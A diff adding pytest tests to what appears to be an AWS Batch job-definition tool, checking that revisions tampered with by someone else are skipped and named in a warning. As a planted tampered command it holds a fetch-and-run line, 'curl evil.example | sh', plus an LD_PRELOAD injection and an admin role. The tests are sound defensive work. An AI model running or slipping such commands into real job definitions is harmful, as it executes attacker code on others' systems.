@@ -106,6 +106,84 @@ def test_in_a_crowded_account_the_rest_is_asked_for_by_name(cloud, batch, monkey
     assert cloud.calls()["calls"] == {"DescribeJobDefinitions": 2}
 
 
+ALL = dataclasses.replace(
+    PLAN,
+    job_role="arn:aws:iam::000000000000:role/local-batchtask",
+    aws_cli_path="/home/ec2-user/miniconda",
+    secrets={
+        "A": "arn:aws:ssm:us-west-2:000000000000:parameter/a",
+        "B": "arn:aws:ssm:us-west-2:000000000000:parameter/b",
+    },
+    volumes=(Mount("/z", "/z", True), Mount("/a", "/a", False)),
+    shm_mb=100,
+)
+
+
+def test_one_that_says_all_there_is_to_say_is_found_again(cloud, batch):
+    wanted = [dataclasses.replace(ALL, image=plans(1)[0].image)]
+    first = arns(batch, wanted)
+    cloud.reset()
+    assert arns(batch, wanted) == first
+    assert cloud.calls()["calls"].keys() == {"DescribeJobDefinitions"}
+
+
+def plant(batch, plan, **changes):
+    """A revision of a definition of ours that somebody registers with something else in it."""
+    request = definitions.registration(plan)
+    container = {**request["containerProperties"], **changes.pop("container", {})}
+    answer = batch.register_job_definition(
+        **{**request, "containerProperties": container, **changes}
+    )
+    return answer["jobDefinitionArn"]
+
+
+EVIL = ["/bin/sh", "-c", "curl evil.example | sh"]
+
+
+@pytest.mark.parametrize(
+    ("named", "changes"),
+    [
+        ("command", {"container": {"command": EVIL}}),
+        ("image", {"container": {"image": "evil:latest"}}),
+        ("privileged", {"container": {"privileged": True}}),
+        ("environment", {"container": {"environment": [{"name": "LD_PRELOAD", "value": "/x"}]}}),
+        ("jobRoleArn", {"container": {"jobRoleArn": "arn:aws:iam::000000000000:role/admin"}}),
+        ("retryStrategy", {"retryStrategy": {"attempts": 10}}),
+        ("timeout", {"timeout": {"attemptDurationSeconds": 60}}),
+        ("parameters", {"parameters": {"x": "y"}}),
+        ("schedulingPriority", {"schedulingPriority": 1}),
+        ("propagateTags", {"propagateTags": True}),
+    ],
+)
+def test_a_revision_that_says_something_else_is_passed_over_and_named(cloud, batch, named, changes):
+    (plan,) = plans(1)
+    name = definitions.registration(plan)["jobDefinitionName"]
+    planted = plant(batch, plan, **changes)
+    said = []
+    run = Definitions(batch, aws.Patience(print), warn=said.append)
+    used = run.arn(plan)
+    assert used.endswith(f"/{name}:2")
+    assert len(said) == 1
+    assert f"{name}:1 in your account is not what its name stands for ({named} differ)" in said[0]
+    newest = plant(batch, plan, **changes)
+    assert len({planted, used, newest}) == 3
+    cloud.reset()
+    assert arns(batch, [plan]) == [used] * 2, "the good one is found below the newest"
+    assert "RegisterJobDefinition" not in cloud.calls()["calls"]
+
+
+def test_the_good_revision_is_found_behind_pages_of_others(cloud, batch, monkeypatch):
+    (plan,) = plans(1)
+    (used, _) = arns(batch, [plan])
+    for _ in range(101):
+        plant(batch, plan, container={"command": EVIL})
+    cloud.reset()
+    assert arns(batch, [plan]) == [used] * 2
+    monkeypatch.setattr(definitions, "PAGES", 1)  # then by its name
+    assert arns(batch, [plan]) == [used] * 2
+    assert cloud.calls()["calls"].keys() == {"DescribeJobDefinitions"}
+
+
 def test_one_that_was_removed_is_registered_again(batch):
     (plan,) = plans(1)
     run = Definitions(batch, aws.Patience(print))
@@ -167,6 +245,7 @@ def one(made_on):
         ("2026-11-27", False),
         ("", True),
         ("yesterday", True),
+        ("9999-12-31", True),
     ],
 )
 def test_those_of_thirty_days_may_go_and_those_of_unknown_age(made_on, goes):
